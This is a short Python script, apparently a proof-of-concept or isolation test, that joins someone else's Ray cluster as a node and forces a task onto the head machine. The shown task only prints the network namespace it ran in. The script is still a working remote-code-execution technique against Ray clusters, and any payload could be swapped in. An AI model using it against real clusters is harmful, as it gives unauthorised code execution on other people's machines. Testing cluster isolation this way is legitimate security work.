"""Run code in somebody's Ray cluster, as another machine would: join it as a node, and send a task to its head.

    python ray_attack.py ADDRESS OWN_ADDRESS FOLDER

Prints the network namespace that the task ran in.
"""

import os
import subprocess
import sys
from pathlib import Path

import ray
from ray.util.scheduling_strategies import NodeAffinitySchedulingStrategy


def look_around() -> str:
    """Return where this code runs."""
    return os.readlink("/proc/self/ns/net")


def main(address: str, own_address: str, folder: str) -> None:
    """Join the cluster, attack its head, and stop whatever was started here."""
    Path(folder).mkdir(parents=True, exist_ok=True)
    command = [str(Path(sys.executable).with_name("ray")), "start", "--block", "--disable-usage-stats"]
    command += ["--address", address, "--node-ip-address", own_address, "--num-cpus", "0"]
    node = subprocess.Popen(command, env=os.environ | {"RAY_TMPDIR": folder}, stdout=sys.stderr)
    try:
        ray.init(address=address, _node_ip_address=own_address, log_to_driver=False)
        (head,) = (each["NodeID"] for each in ray.nodes() if f"{each['NodeManagerAddress']}:" in address)
        there = NodeAffinitySchedulingStrategy(head, soft=False)
        task = ray.remote(num_cpus=0, scheduling_strategy=there)(look_around)
        sys.stdout.write(ray.get(task.remote(), timeout=60))
    finally:
        node.terminate()
        node.wait(60)


if __name__ == "__main__":
    main(*sys.argv[1:])
